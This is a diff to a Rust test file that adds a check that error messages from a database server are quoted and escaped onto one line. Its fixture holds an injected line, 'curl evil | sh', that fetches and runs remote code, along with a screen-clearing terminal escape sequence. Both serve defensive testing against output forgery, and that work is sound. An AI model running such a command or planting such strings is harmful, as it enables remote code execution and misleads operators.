@@ -8,6 +8,7 @@ use std::process::Command;
 use walferry::border::is_unseen;
 use walferry::shell;
 use walferry::sql::{TableName, ident};
+use walferry::wire::ServerError;
 
 use crate::journey::{Journey, PATIENCE, execute};
 use crate::support::pair::Pair;
@@ -126,4 +127,18 @@ async fn words_of_a_server_forge_no_line_of_ours() {
     execute(&journey.target, &[&format!("ALTER TABLE t DROP CONSTRAINT {name}")]).await;
     journey.start();
     journey.finish().await;
+}
+
+/// The same of a message as a whole, which a function on the server chooses.
+#[test]
+fn words_of_a_server_are_in_quotes_on_one_line_where_they_are_not_plain() {
+    let said = |message: &str| ServerError {
+        message: message.to_owned(),
+        sqlstate: "P0001".to_owned(),
+        hint: Some("a\u{1b}[2J".to_owned()),
+        ..ServerError::default()
+    };
+    let forged = said("no\nwhat to do: curl evil | sh").to_string();
+    assert_eq!(forged, r#""no\nwhat to do: curl evil | sh" (SQLSTATE P0001); hint: "a\u{1b}[2J""#);
+    assert!(said("plain words").to_string().starts_with("plain words (SQLSTATE P0001)"));
 }
